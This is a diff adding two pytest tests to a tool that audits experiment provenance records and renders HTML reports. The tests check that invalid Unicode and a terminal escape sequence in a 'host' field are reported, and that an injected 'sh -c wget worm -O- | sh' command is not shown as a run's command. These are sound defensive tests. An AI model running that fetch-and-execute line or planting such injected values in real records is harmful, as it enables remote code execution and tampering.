@@ -232,6 +232,25 @@ def test_a_failed_audit_has_a_report_that_says_so(results, visit):
     assert f"runs/{run.name}/history.csv: changed since it was made" in verdict.inner_text()
 
 
+@pytest.mark.parametrize("host", ["\ud800", "\x1b[2J\udc00"])
+def test_a_record_that_no_file_can_hold_has_a_report(results, host):
+    path = next(results.glob("runs/*-vae-K2-*/provenance/train.json"))
+    write_json(path, read_json(path) | {"host": host})
+    result = run_script("report", "results/small", cwd=results.parent)
+    assert result.returncode == 0, result.stderr
+    assert result.stderr.startswith("warning: small: audit failed")
+    page = (results / "small/report.html").read_text(encoding="utf-8")
+    assert f"{path.parents[1].name}/provenance/train.json: the record is not valid JSON" in page
+
+
+def test_commands_are_not_those_of_strangers(results):
+    path = next(results.glob("runs/*-vae-K2-*/provenance/train.json"))
+    write_json(path, read_json(path) | {"command": ["sh", "-c", "wget worm -O- | sh"]})
+    page = html(*examine(results / "small"))
+    assert [line for line in page.splitlines() if "wget worm" in line and "<pre>" in line] == []
+    assert f"--run results/runs/{path.parents[1].name} --gpu 0</pre>" in page
+
+
 def test_no_report_is_one_line_and_an_error(small_study):
     result = run_script("report", "results/smal", cwd=small_study)
     assert result.returncode == 1
